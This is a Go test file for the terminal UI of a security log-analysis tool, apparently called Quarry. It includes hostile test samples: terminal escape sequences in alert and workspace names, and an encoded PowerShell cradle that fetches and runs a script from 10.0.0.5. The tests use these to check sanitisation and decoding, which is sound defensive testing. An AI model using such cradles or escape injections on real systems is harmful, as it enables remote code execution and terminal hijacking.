package tui

import (
	"bytes"
	"context"
	"encoding/base64"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	tea "github.com/charmbracelet/bubbletea"
	"github.com/charmbracelet/lipgloss"
	"github.com/charmbracelet/x/ansi"
	"github.com/muesli/termenv"

	"github.com/quarry-sec/quarry/engine/frame"
	"github.com/quarry-sec/quarry/providers/config"
	"github.com/quarry-sec/quarry/providers/data"
	"github.com/quarry-sec/quarry/queries"
	"github.com/quarry-sec/quarry/views/pane"
)

func TestMain(m *testing.M) {
	lipgloss.SetColorProfile(termenv.Ascii)
	os.Exit(m.Run())
}

// clock is the fixed time of the tests: after the demo data ends.
var clock = time.Date(2026, 11, 24, 12, 0, 0, 0, time.UTC)

var span = data.Info{Provider: "local", Dialect: frame.SQL, Workspace: "demo",
	Start: time.Date(2019, 1, 10, 5, 48, 9, 0, time.UTC), End: time.Date(2022, 5, 13, 8, 54, 11, 0, time.UTC)}

// fakeBackend serves the real query library and canned frames; a query blocks
// until released when hold is set, so tests can race requests.
type fakeBackend struct {
	mu     sync.Mutex
	frames map[string]*frame.Frame
	calls  []call
	hold   chan struct{}
	err    error
}

type call struct {
	name   string
	params map[string]any
}

func (b *fakeBackend) Library() (*queries.Library, error) { return queries.Load() }

func (b *fakeBackend) Open(context.Context) (data.Info, error) { return span, nil }

func (b *fakeBackend) RunQuery(ctx context.Context, name string, params map[string]any) (*frame.Frame, error) {
	b.mu.Lock()
	b.calls = append(b.calls, call{name, params})
	hold := b.hold
	b.mu.Unlock()
	if hold != nil {
		select {
		case <-hold:
		case <-ctx.Done():
			return nil, ctx.Err()
		}
	}
	if b.err != nil {
		return nil, b.err
	}
	if f, ok := b.frames[name]; ok {
		return f, nil
	}
	return alerts(), nil
}

// alerts is a small alert table; its last row carries terminal escape sequences.
func alerts() *frame.Frame {
	b := frame.NewBuilder([]string{"TimeGenerated", "AlertSeverity", "DisplayName", "CompromisedEntity"},
		[]frame.Kind{frame.Time, frame.String, frame.String, frame.String})
	base := time.Date(2019, 1, 10, 5, 48, 9, 0, time.UTC)
	names := []string{"Global domain trust creation", "Maliciuos IP communication", "evil\x1b[2J\x1b]0;owned\x07\x1b]52;c;ZXZpbA==\x07name"}
	for i, name := range names {
		b.Append([]any{base.Add(time.Duration(i) * time.Hour), []string{"High", "Medium", "Low"}[i], name, "MSTICAlertsWin1"})
	}
	f, _ := b.Frame(frame.Meta{Query: "SecurityAlert.list_alerts", Elapsed: 4 * time.Millisecond})
	return f
}

// newShell makes a shell of the given size over the fake backend, opened.
func newShell(t testing.TB, b *fakeBackend, w, h int) (*Model, *bytes.Buffer) {
	t.Helper()
	clip := &bytes.Buffer{}
	m, err := New(context.Background(), b, Options{NoColor: true, Clipboard: clip, Now: func() time.Time { return clock }})
	if err != nil {
		t.Fatal(err)
	}
	send(m, tea.WindowSizeMsg{Width: w, Height: h})
	settle(m, m.Init())
	return m, clip
}

// send delivers messages and runs every command they return, to quiescence.
func send(m *Model, msgs ...tea.Msg) {
	for _, msg := range msgs {
		_, cmd := m.Update(msg)
		settle(m, cmd)
	}
}

// settle runs a command and feeds its messages back, recursively; spinner ticks
// and cursor blinks (which would run forever) are not followed, nor is any command
// that has not answered within a moment (a timer).
func settle(m *Model, cmd tea.Cmd) {
	for _, msg := range collectWithin(cmd, 200*time.Millisecond) {
		_, next := m.Update(msg)
		settle(m, next)
	}
}

// collect runs a command to completion and returns its messages.
func collect(cmd tea.Cmd) []tea.Msg { return collectWithin(cmd, time.Hour) }

func collectWithin(cmd tea.Cmd, wait time.Duration) []tea.Msg {
	if cmd == nil {
		return nil
	}
	ch := make(chan tea.Msg, 1)
	go func() { ch <- cmd() }()
	var msg tea.Msg
	select {
	case msg = <-ch:
	case <-time.After(wait):
		return nil
	}
	switch msg := msg.(type) {
	case nil:
		return nil
	case tea.BatchMsg:
		// The parts run at once, as Bubble Tea runs them, each within the wait.
		parts := make([][]tea.Msg, len(msg))
		var wg sync.WaitGroup
		for i, c := range msg {
			wg.Add(1)
			go func() {
				defer wg.Done()
				parts[i] = collectWithin(c, wait)
			}()
		}
		wg.Wait()
		var out []tea.Msg
		for _, p := range parts {
			out = append(out, p...)
		}
		return out
	case tea.QuitMsg:
		return nil
	}
	name := strings.ToLower(typeName(msg))
	if strings.Contains(name, "tick") || strings.Contains(name, "blink") {
		return nil
	}
	return []tea.Msg{msg}
}

func typeName(v any) string { return strings.TrimSpace(strings.Split(fmtType(v), "{")[0]) }

func keys(s ...string) []tea.Msg {
	out := make([]tea.Msg, len(s))
	for i, k := range s {
		out[i] = pane.Key(k)
	}
	return out
}

// typeText sends each rune of s as a key press.
func typeText(m *Model, s string) {
	for _, r := range s {
		send(m, tea.KeyMsg{Type: tea.KeyRunes, Runes: []rune{r}})
	}
}

func screen(m *Model) string { return ansi.Strip(m.View()) }

func TestOpensOnTheLibrary(t *testing.T) {
	m, _ := newShell(t, &fakeBackend{}, 120, 40)
	if m.Focused() != pane.Queries {
		t.Errorf("focus = %s, want queries", m.Focused())
	}
	s := screen(m)
	for _, want := range []string{"◆ Quarry", "▶1 Queries", "2 Results", "8 Decode", "demo · local", "span 2019-01-10 05:48 → 2022-05-13 08:54 UTC", "ready"} {
		if !strings.Contains(s, want) {
			t.Errorf("screen lacks %q:\n%s", want, s)
		}
	}
	if r := m.Range(); !r.Start.Equal(span.Start) || !r.End.After(span.End.Add(-time.Second)) {
		t.Errorf("initial range %v, want the workspace span", r)
	}
	lines := strings.Split(m.View(), "\n")
	if len(lines) != 40 {
		t.Errorf("%d lines, want 40", len(lines))
	}
	for i, l := range lines {
		if w := ansi.StringWidth(l); w != 120 {
			t.Errorf("line %d is %d wide: %q", i, w, l)
		}
	}
}

func TestFocusKeys(t *testing.T) {
	m, _ := newShell(t, &fakeBackend{}, 100, 30)
	for _, step := range []struct {
		key  string
		want pane.ID
	}{
		{"tab", pane.Results}, {"tab", pane.Alerts}, {"shift+tab", pane.Results}, {"4", pane.ProcTree},
		{"8", pane.Decode}, {"tab", pane.Queries}, {"shift+tab", pane.Decode}, {"1", pane.Queries},
	} {
		send(m, pane.Key(step.key))
		if m.Focused() != step.want {
			t.Fatalf("after %s: focus %s, want %s", step.key, m.Focused(), step.want)
		}
	}
	send(m, pane.Key("5"))
	if s := screen(m); !strings.Contains(s, "Not built yet") {
		t.Errorf("the time series pane does not say it is not built yet:\n%s", s)
	}
	send(m, pane.Key("4"))
	if s := screen(m); !strings.Contains(s, "press T in") {
		t.Errorf("the process tree pane does not say how to fill it:\n%s", s)
	}
}

func TestTooSmallAndResize(t *testing.T) {
	m, _ := newShell(t, &fakeBackend{}, 79, 24)
	if s := screen(m); !strings.Contains(s, "have 79×24, need 80×24") {
		t.Errorf("small screen:\n%s", s)
	}
	send(m, tea.WindowSizeMsg{Width: 80, Height: 23})
	if s := screen(m); !strings.Contains(s, "have 80×23") {
		t.Errorf("short screen:\n%s", s)
	}
	send(m, tea.WindowSizeMsg{Width: 80, Height: 24})
	if s := screen(m); strings.Contains(s, "too small") || len(strings.Split(s, "\n")) != 24 {
		t.Errorf("80×24 not drawn:\n%s", s)
	}
}

func TestCommandLineRunsQueryAndRoutesResult(t *testing.T) {
	b := &fakeBackend{}
	m, _ := newShell(t, b, 120, 40)
	send(m, pane.Key(":"))
	typeText(m, "q SecurityAlert.list_alerts")
	send(m, pane.Key("enter"))
	if len(b.calls) != 1 || b.calls[0].name != "SecurityAlert.list_alerts" {
		t.Fatalf("calls = %+v", b.calls)
	}
	p := b.calls[0].params
	if st, ok := p["start"].(time.Time); !ok || !st.Equal(m.Range().Start) {
		t.Errorf("start param %v, want the picker's %v", p["start"], m.Range().Start)
	}
	if m.Focused() != pane.Results || m.results.Cards() != 1 {
		t.Fatalf("focus %s, %d cards", m.Focused(), m.results.Cards())
	}
	s := screen(m)
	if !strings.Contains(s, "3 rows") || !strings.Contains(s, "Global domain trust") {
		t.Errorf("results not shown:\n%s", s)
	}
	if strings.ContainsAny(m.View(), "\x07") || strings.Contains(m.View(), "\x1b]") {
		t.Errorf("an escape sequence from the data reached the screen")
	}
	if !strings.Contains(s, `\x1b]0;owned`) {
		t.Errorf("hostile cell not shown as visible escapes:\n%s", s)
	}
	// History: ':' then up brings the last line back.
	send(m, pane.Key(":"), pane.Key("up"))
	if got := m.cmd.input.Value(); got != "q SecurityAlert.list_alerts" {
		t.Errorf("history recalled %q", got)
	}
	send(m, pane.Key("esc"))
	if m.cmd.open {
		t.Error("esc did not close the command line")
	}
}

func TestCommandErrors(t *testing.T) {
	m, _ := newShell(t, &fakeBackend{}, 100, 30)
	for line, want := range map[string]string{
		"frobnicate":                          `unknown command "frobnicate"`,
		"q Nope.nothing":                      "Nope.nothing",
		"q SecurityAlert.list_alerts bogus=1": `no parameter "bogus"`,
		"range 2022-01-02 2022-01-01":         "not before",
		"range soon":                          "want a preset",
		"theme plaid":                         "unknown theme",
		"zone Mars/Olympus":                   "Mars/Olympus",
		`q "unclosed`:                         "unclosed quote",
	} {
		send(m, pane.Key(":"))
		typeText(m, line)
		send(m, pane.Key("enter"))
		n, ok := m.Flash()
		if !ok || n.Level != pane.Error || !strings.Contains(n.Text, want) {
			t.Errorf(":%s → %+v, want an error with %q", line, n, want)
		}
	}
}

func TestRangeCommandAndStep(t *testing.T) {
	m, _ := newShell(t, &fakeBackend{}, 100, 30)
	send(m, pane.Key(":"))
	typeText(m, "range -7d")
	send(m, pane.Key("enter"))
	r := m.Range()
	if r.Width() != 7*24*time.Hour || !r.End.Equal(span.End) {
		t.Fatalf("range -7d = %v → %v, want 7 days ending at the data's end", r.Start, r.End)
	}
	send(m, pane.Key("["))
	if got := m.Range(); got.Width() != r.Width() || !got.End.Equal(r.Start) {
		t.Errorf("[ gave %v → %v, want the 7 days before", got.Start, got.End)
	}
	send(m, pane.Key("]"))
	if got := m.Range(); !got.Start.Equal(r.Start) || !got.End.Equal(r.End) {
		t.Errorf("] did not step back: %v → %v", got.Start, got.End)
	}
	send(m, pane.Key(":"))
	typeText(m, "range 2020-01-01..2020-02-01")
	send(m, pane.Key("enter"))
	if got := m.Range(); !got.Start.Equal(time.Date(2020, 1, 1, 0, 0, 0, 0, time.UTC)) || !got.End.Equal(time.Date(2020, 2, 1, 0, 0, 0, 0, time.UTC)) {
		t.Errorf("absolute range = %v → %v", got.Start, got.End)
	}
	if s := screen(m); !strings.Contains(s, "2020-01-01 00:00 → 2020-02-01 00:00 UTC") {
		t.Errorf("status bar lacks the range:\n%s", s)
	}
	send(m, pane.Key(":"))
	typeText(m, "zone Asia/Tokyo")
	send(m, pane.Key("enter"))
	if s := screen(m); !strings.Contains(s, "2020-01-01 09:00 → 2020-02-01 09:00 JST") {
		t.Errorf("zone not applied to the status bar:\n%s", s)
	}
}

func TestTimeRangeDialog(t *testing.T) {
	m, _ := newShell(t, &fakeBackend{}, 120, 40)
	send(m, pane.Key("t"))
	if m.dialog != dialogRange || !strings.Contains(screen(m), "Time range") {
		t.Fatalf("t did not open the picker:\n%s", screen(m))
	}
	send(m, pane.Key("esc"))
	if m.dialog != dialogNone {
		t.Error("esc did not close the picker")
	}
}

func TestPaletteFindsActions(t *testing.T) {
	m, _ := newShell(t, &fakeBackend{}, 120, 40)
	send(m, pane.Key("ctrl+p"))
	typeText(m, "them")
	if len(m.cmd.matches) == 0 || !strings.HasPrefix(m.cmd.matches[0].label, "theme") {
		t.Fatalf("palette matches for 'them': %+v", m.cmd.matches)
	}
	send(m, pane.Key("enter"))
	if !m.cmd.open || m.cmd.input.Value() != "theme " {
		t.Fatalf("choosing theme should ask for its argument; line %q open %v", m.cmd.input.Value(), m.cmd.open)
	}
	typeText(m, "light")
	send(m, pane.Key("enter"))
	if n, _ := m.Flash(); !strings.Contains(n.Text, "NO_COLOR") {
		t.Errorf("theme under NO_COLOR: %+v", n)
	}
	// A command without arguments runs from the palette at once.
	send(m, pane.Key("ctrl+p"))
	typeText(m, "decode")
	send(m, pane.Key("enter"))
	if m.Focused() != pane.Decode {
		t.Errorf("palette 'decode' → focus %s", m.Focused())
	}
}

func TestThemeCommand(t *testing.T) {
	b := &fakeBackend{}
	m, err := New(context.Background(), b, Options{UI: config.UI{Theme: "dark"}, Now: func() time.Time { return clock }})
	if err != nil {
		t.Fatal(err)
	}
	send(m, tea.WindowSizeMsg{Width: 100, Height: 30})
	send(m, pane.Key(":"))
	typeText(m, "theme high-contrast")
	send(m, pane.Key("enter"))
	if m.pctx.Theme.Name != "high-contrast" {
		t.Errorf("theme = %s", m.pctx.Theme.Name)
	}
	if _, err := New(context.Background(), b, Options{UI: config.UI{Theme: "plaid"}}); err == nil {
		t.Error("unknown theme in settings accepted")
	}
	if _, err := New(context.Background(), b, Options{UI: config.UI{Keys: map[string]map[string][]string{"global": {"nosuch": {"x"}}}}}); err == nil {
		t.Error("unknown key name in settings accepted")
	}
	m, err = New(context.Background(), b, Options{UI: config.UI{Keys: map[string]map[string][]string{"global": {"timerange": {"T"}}}}})
	if err != nil {
		t.Fatal(err)
	}
	if got := m.keys.TimeRange.Keys(); len(got) != 1 || got[0] != "T" {
		t.Errorf("rebound time range keys = %v", got)
	}
}

func TestStaleResultsAreDropped(t *testing.T) {
	b := &fakeBackend{hold: make(chan struct{})}
	m, _ := newShell(t, b, 120, 40)
	first := m.runQuery(pane.RunQuery{From: pane.Queries, Query: "SecurityAlert.list_alerts"})
	second := m.runQuery(pane.RunQuery{From: pane.Queries, Query: "SecurityAlert.list_alerts"})
	if m.Tasks() != 2 {
		t.Fatalf("%d tasks, want 2", m.Tasks())
	}
	// The first was cancelled by the second; release the second.
	done1 := collect(first)
	close(b.hold)
	done2 := collect(second)
	for _, msg := range append(done2, done1...) { // the newer lands first, the stale one after
		_, cmd := m.Update(msg)
		settle(m, cmd)
	}
	if m.results.Cards() != 1 {
		t.Errorf("%d cards, want 1 (the stale answer must be dropped)", m.results.Cards())
	}
	if m.Tasks() != 0 {
		t.Errorf("%d tasks left", m.Tasks())
	}
}

func TestCtrlCCancelsThenQuits(t *testing.T) {
	b := &fakeBackend{hold: make(chan struct{})}
	m, _ := newShell(t, b, 100, 30)
	run := m.runQuery(pane.RunQuery{From: pane.Queries, Query: "SecurityAlert.list_alerts"})
	_, cmd := m.Update(pane.Key("ctrl+c"))
	if isQuit(cmd) {
		t.Fatal("ctrl+c quit while a task ran; it should cancel first")
	}
	settle(m, cmd)
	settle(m, run) // the cancelled query returns context.Canceled
	if n, _ := m.Flash(); !strings.Contains(n.Text, "cancelled") {
		t.Errorf("flash after cancel: %+v", n)
	}
	if m.Tasks() != 0 || m.results.Cards() != 0 {
		t.Errorf("tasks %d cards %d after cancel", m.Tasks(), m.results.Cards())
	}
	_, cmd = m.Update(pane.Key("ctrl+c"))
	if !isQuit(cmd) {
		t.Error("second ctrl+c did not quit")
	}
}

func TestQuitConfirmsWhileTasksRun(t *testing.T) {
	b := &fakeBackend{hold: make(chan struct{})}
	defer close(b.hold)
	m, _ := newShell(t, b, 100, 30)
	m.runQuery(pane.RunQuery{From: pane.Queries, Query: "SecurityAlert.list_alerts"})
	_, cmd := m.Update(pane.Key("q"))
	if isQuit(cmd) || m.dialog != dialogQuit || !strings.Contains(screen(m), "Quit anyway?") {
		t.Fatalf("q with a task running should ask:\n%s", screen(m))
	}
	send(m, pane.Key("n"))
	if m.dialog != dialogNone {
		t.Error("n did not close the question")
	}
	m.Update(pane.Key("q"))
	if _, cmd = m.Update(pane.Key("y")); !isQuit(cmd) {
		t.Error("y did not quit")
	}
}

func isQuit(cmd tea.Cmd) bool {
	if cmd == nil {
		return false
	}
	switch msg := cmd().(type) {
	case tea.QuitMsg:
		return true
	case tea.BatchMsg:
		for _, c := range msg {
			if isQuit(c) {
				return true
			}
		}
	}
	return false
}

func TestEscBacksOutAndCancels(t *testing.T) {
	b := &fakeBackend{hold: make(chan struct{})}
	m, _ := newShell(t, b, 100, 30)
	run := m.runQuery(pane.RunQuery{From: pane.Queries, Query: "SecurityAlert.list_alerts"})
	send(m, pane.Key("esc"))
	settle(m, run)
	if m.Tasks() != 0 {
		t.Errorf("esc left %d tasks running", m.Tasks())
	}
}

func TestCopyWritesOSC52(t *testing.T) {
	m, clip := newShell(t, &fakeBackend{}, 100, 30)
	send(m, pane.Copy{Text: "10.0.0.1\x1b]0;x\x07", What: "cell"})
	want := "\x1b]52;c;" + base64.StdEncoding.EncodeToString([]byte("10.0.0.1\x1b]0;x\x07")) + "\x07"
	if clip.String() != want {
		t.Errorf("clipboard write %q, want %q", clip.String(), want)
	}
	if n, _ := m.Flash(); !strings.Contains(n.Text, "copied cell") {
		t.Errorf("flash %+v", n)
	}
	clip.Reset()
	send(m, pane.Copy{Text: strings.Repeat("x", MaxCopy+1), What: "row"})
	if clip.Len() != 0 {
		t.Error("an oversized copy was written")
	}
	if n, _ := m.Flash(); n.Level != pane.Error {
		t.Errorf("oversized copy: %+v", n)
	}
}

func TestExportWritesFile(t *testing.T) {
	m, _ := newShell(t, &fakeBackend{}, 100, 30)
	dir := t.TempDir()
	path := filepath.Join(dir, "out.csv")
	send(m, pane.Export{From: pane.Results, Frame: alerts(), Rows: []int{1, 0}, Columns: []int{1, 2}, Path: path, Format: frame.CSV})
	got, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if want := "AlertSeverity,DisplayName\nMedium,Maliciuos IP communication\nHigh,Global domain trust creation\n"; string(got) != want {
		t.Errorf("export:\n%s\nwant:\n%s", got, want)
	}
	if n, _ := m.Flash(); !strings.Contains(n.Text, "wrote 2 rows") {
		t.Errorf("flash %+v", n)
	}
	send(m, pane.Export{From: pane.Results, Frame: alerts(), Path: path, Format: frame.CSV})
	if n, _ := m.Flash(); n.Level != pane.Error || !strings.Contains(n.Text, "exists") {
		t.Errorf("overwrite: %+v", n)
	}
	entries, _ := os.ReadDir(dir)
	if len(entries) != 1 {
		t.Errorf("export left %d files: %v", len(entries), entries)
	}
}

func TestNotificationsAreSanitised(t *testing.T) {
	m, _ := newShell(t, &fakeBackend{}, 100, 30)
	send(m, pane.Notify{Level: pane.Error, Text: "bad \x1b]0;title\x07 \x1b[2J value"})
	v := m.View()
	if strings.Contains(v, "\x1b]") || strings.Contains(v, "\x07") || strings.Contains(v, "\x1b[2J") {
		t.Errorf("raw escape in the status bar: %q", v)
	}
	if !strings.Contains(ansi.Strip(v), `✗ bad \x1b]0;title\x07`) {
		t.Errorf("error not shown visibly:\n%s", ansi.Strip(v))
	}
	send(m, pane.Key("j"))
	if _, ok := m.Flash(); ok {
		t.Error("flash not cleared by the next key")
	}
}

func TestQueryErrorIsShown(t *testing.T) {
	b := &fakeBackend{err: errors.New("Binder Error: column \"x\" not found")}
	m, _ := newShell(t, b, 100, 30)
	send(m, pane.Key(":"))
	typeText(m, "q SecurityAlert.list_alerts")
	send(m, pane.Key("enter"))
	if n, ok := m.Flash(); !ok || n.Level != pane.Error || !strings.Contains(n.Text, "Binder Error") {
		t.Errorf("query error flash: %+v", n)
	}
	if m.results.Cards() != 0 {
		t.Error("a failed query opened a card")
	}
}

func TestMouseToggle(t *testing.T) {
	m, _ := newShell(t, &fakeBackend{}, 100, 30)
	send(m, tea.MouseMsg{X: 2, Y: 3, Button: tea.MouseButtonLeft, Action: tea.MouseActionPress})
	if m.Focused() != pane.Queries {
		t.Error("a click acted while the mouse was off")
	}
	send(m, pane.Key(":"))
	typeText(m, "mouse on")
	send(m, pane.Key("enter"))
	send(m, tea.MouseMsg{X: 2, Y: 3, Button: tea.MouseButtonLeft, Action: tea.MouseActionPress})
	if m.Focused() != pane.Results {
		t.Errorf("click on the second navigator entry → focus %s", m.Focused())
	}
}

func fmtType(v any) string { return strings.TrimPrefix(fmt.Sprintf("%T", v), "*") }

func TestHostileWorkspaceName(t *testing.T) {
	b := &hostileInfo{}
	m, err := New(context.Background(), b, Options{NoColor: true, Now: func() time.Time { return clock }})
	if err != nil {
		t.Fatal(err)
	}
	send(m, tea.WindowSizeMsg{Width: 120, Height: 30})
	settle(m, m.Init())
	v := m.View()
	if strings.Contains(v, "\x1b]0;") || strings.Contains(v, "\x07") {
		t.Errorf("the workspace name's escape reached the screen: %q", v)
	}
	if !strings.Contains(ansi.Strip(v), `case\x1b]0;pwned\x07 · local`) {
		t.Errorf("workspace name not shown escaped:\n%s", ansi.Strip(v))
	}
}

// hostileInfo is a backend whose workspace.yaml names the workspace with an
// escape sequence.
type hostileInfo struct{ fakeBackend }

func (h *hostileInfo) Open(context.Context) (data.Info, error) {
	info := span
	info.Workspace = "case\x1b]0;pwned\x07"
	return info, nil
}

// slowOpen is a backend whose Open reports progress and waits to be released.
type slowOpen struct {
	fakeBackend
	report  func(string)
	started chan struct{}
	release chan struct{}
}

func (s *slowOpen) SetProgress(f func(string)) { s.report = f }

func (s *slowOpen) Open(ctx context.Context) (data.Info, error) {
	s.report("importing SecurityEvent.csv (258 MB) as table SecurityEvent…")
	close(s.started)
	<-s.release
	return span, nil
}

func TestOpeningShowsProviderProgress(t *testing.T) {
	b := &slowOpen{started: make(chan struct{}), release: make(chan struct{})}
	m, err := New(context.Background(), b, Options{NoColor: true, Now: func() time.Time { return clock }})
	if err != nil {
		t.Fatal(err)
	}
	send(m, tea.WindowSizeMsg{Width: 120, Height: 30})
	init := m.Init()
	done := make(chan []tea.Msg)
	go func() { done <- collect(init) }()
	<-b.started
	if s := screen(m); !strings.Contains(s, "importing SecurityEvent.csv (258 MB)") {
		t.Errorf("status bar lacks the import progress:\n%s", s)
	}
	close(b.release)
	for _, msg := range <-done {
		send(m, msg)
	}
	if s := screen(m); strings.Contains(s, "importing") || !strings.Contains(s, "ready") {
		t.Errorf("after opening:\n%s", s)
	}
}

func TestRangeFromTheFormKeepsWhatWasTyped(t *testing.T) {
	b := &fakeBackend{}
	m, _ := newShell(t, b, 120, 40)
	m.browser.Select("Azure.list_aad_signins_for_account")
	send(m, pane.Key("enter")) // the form, on account_name
	typeText(m, "alice")
	send(m, pane.Key("ctrl+t"))
	if m.dialog != dialogRange {
		t.Fatalf("ctrl+t in the form did not open the picker:\n%s", screen(m))
	}
	send(m, pane.Key("k"), pane.Key("k"), pane.Key("k"), pane.Key("enter")) // 24h
	if m.dialog != dialogNone || m.Range().Width() != 24*time.Hour {
		t.Fatalf("picker: dialog %v, range %v", m.dialog, m.Range().Width())
	}
	if !m.browser.Capturing() {
		t.Fatal("the form closed")
	}
	send(m, pane.Key("ctrl+s"))
	if len(b.calls) != 1 || b.calls[0].params["account_name"] != "alice" {
		t.Fatalf("calls = %+v", b.calls)
	}
	if st := b.calls[0].params["start"].(time.Time); !st.Equal(span.End.Add(-24 * time.Hour)) {
		t.Errorf("start = %v, want the last day of the data", st)
	}
}

// failingOpen fails to open the workspace until fixed.
type failingOpen struct {
	fakeBackend
	fixed bool
}

func (f *failingOpen) Open(context.Context) (data.Info, error) {
	if !f.fixed {
		return data.Info{}, errors.New("workspace /cases/4711: file bad.csv: not valid csv: line 3: wrong number of fields (want 2, got 1); fix the file or move it out of the folder")
	}
	return span, nil
}

func TestOpenFailureIsShownAndRetried(t *testing.T) {
	b := &failingOpen{}
	m, err := New(context.Background(), b, Options{NoColor: true, Now: func() time.Time { return clock }})
	if err != nil {
		t.Fatal(err)
	}
	send(m, tea.WindowSizeMsg{Width: 100, Height: 30})
	settle(m, m.Init())
	s := screen(m)
	if !strings.Contains(s, "─ error") || !strings.Contains(s, "wrong number of fields (want 2, got 1)") || !strings.Contains(s, "move it out of the") {
		t.Errorf("the whole error is not on screen:\n%s", s)
	}
	send(m, pane.Key("j"))
	if s := screen(m); strings.Contains(s, "─ error") || !strings.Contains(s, "the workspace did not open; :open retries") {
		t.Errorf("after a key:\n%s", s)
	}
	b.fixed = true
	send(m, pane.Key(":"))
	typeText(m, "open")
	send(m, pane.Key("enter"))
	if s := screen(m); !strings.Contains(s, "ready") || !strings.Contains(s, "demo · local") {
		t.Errorf(":open did not reopen:\n%s", s)
	}
}

// A cell sent with D is decoded off the UI loop and shown in the Decode pane;
// an indicator sent on from there opens the query browser on the queries that
// take it.
func TestDecodeFlow(t *testing.T) {
	m, _ := newShell(t, &fakeBackend{}, 120, 40)
	payload := "powershell -enc " + base64.StdEncoding.EncodeToString(utf16le("IEX (iwr http://10.0.0.5/a.ps1)"))
	_, cmd := m.Update(pane.DecodeText{Text: payload, Source: "SecurityEvent · CommandLine, row 3"})
	if m.Focused() != pane.Decode {
		t.Fatalf("focus %s after D", m.Focused())
	}
	var decoded *pane.Decoded
	for _, msg := range collect(cmd) {
		if td, ok := msg.(taskDone); ok {
			if d, ok := td.msg.(pane.Decoded); ok {
				decoded = &d
			}
		}
		_, next := m.Update(msg)
		settle(m, next)
	}
	if decoded == nil || decoded.Err != nil || len(decoded.Result.Items) != 1 {
		t.Fatalf("decode answer %+v", decoded)
	}
	if it := decoded.Result.Items[0]; it.Decoded != "IEX (iwr http://10.0.0.5/a.ps1)" || it.Encoding != "base64>utf-16le" {
		t.Errorf("item %+v", it)
	}
	var vals []string
	for _, mt := range decoded.ItemIoCs[0] {
		vals = append(vals, string(mt.Type)+" "+mt.Value)
	}
	if strings.Join(vals, "|") != "url http://10.0.0.5/a.ps1|ipv4 10.0.0.5" {
		t.Errorf("item IoCs %q", vals)
	}
	if s := screen(m); !strings.Contains(s, "base64>utf-16le") || !strings.Contains(s, "SecurityEvent") {
		t.Errorf("the Decode pane does not show the result:\n%s", s)
	}
	// A stale answer (an older request) is dropped.
	old := *decoded
	old.Seq--
	old.Result = nil
	if cmd := m.decoded(old); cmd != nil {
		t.Errorf("a superseded answer was routed")
	}
	// Sending an address on opens the browser narrowed to the queries taking it.
	_, cmd = m.Update(pane.UseValue{Type: "ipv4", Value: "10.0.0.5"})
	settle(m, cmd)
	if m.Focused() != pane.Queries || !strings.Contains(screen(m), "taking 10.0.0.5") {
		t.Errorf("UseValue: focus %s\n%s", m.Focused(), screen(m))
	}
	// A type no query takes says so and stays put.
	_, cmd = m.Update(pane.UseValue{Type: "sha256_hash", Value: strings.Repeat("a", 64)})
	settle(m, cmd)
	if !strings.Contains(screen(m), "no query in the library takes a sha256_hash") {
		t.Errorf("no notice for an indicator no query takes:\n%s", screen(m))
	}
}

func utf16le(s string) []byte {
	var b []byte
	for _, r := range s {
		b = append(b, byte(r), byte(r>>8))
	}
	return b
}

// T on a process result builds its tree off the UI loop and shows it in the
// Process tree pane; a superseded answer is dropped.
func TestProcessTreeFlow(t *testing.T) {
	m, _ := newShell(t, &fakeBackend{}, 120, 40)
	f, err := frame.FromRecords([]string{"TimeGenerated", "Computer", "EventID", "NewProcessName", "NewProcessId", "ProcessId", "ParentProcessName", "CommandLine"},
		[][]string{
			{"2022-01-01 10:00:00", "h", "4688", `C:\Windows\System32\cmd.exe`, "0x100", "0x10", `C:\Windows\explorer.exe`, "cmd"},
			{"2022-01-01 10:00:01", "h", "4688", `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, "0x200", "0x100", `C:\Windows\System32\cmd.exe`, "powershell -enc SQBFAFgA"},
		})
	if err != nil {
		t.Fatal(err)
	}
	_, cmd := m.Update(pane.BuildTree{Frame: f, Title: "procs"})
	if m.Focused() != pane.ProcTree {
		t.Fatalf("focus %s", m.Focused())
	}
	var built *pane.TreeBuilt
	for _, msg := range collect(cmd) {
		if td, ok := msg.(taskDone); ok {
			if b, ok := td.msg.(pane.TreeBuilt); ok {
				built = &b
			}
		}
		_, next := m.Update(msg)
		settle(m, next)
	}
	if built == nil || built.Err != nil || len(built.Tree.Procs) != 3 {
		t.Fatalf("answer %+v", built)
	}
	ps := built.Tree.Procs[2]
	if len(ps.Marks) == 0 || ps.Marks[0].Rule != "encoded-powershell" {
		t.Errorf("powershell -enc not marked: %+v", ps.Marks)
	}
	s := screen(m)
	for _, want := range []string{"3 processes · 1 root ", "explorer.exe (inferred)", "powershell.exe"} {
		if !strings.Contains(s, want) {
			t.Errorf("the pane lacks %q:\n%s", want, s)
		}
	}
	old := *built
	old.Seq--
	if m.treeBuilt(old) != nil {
		t.Error("a superseded tree was routed")
	}
}
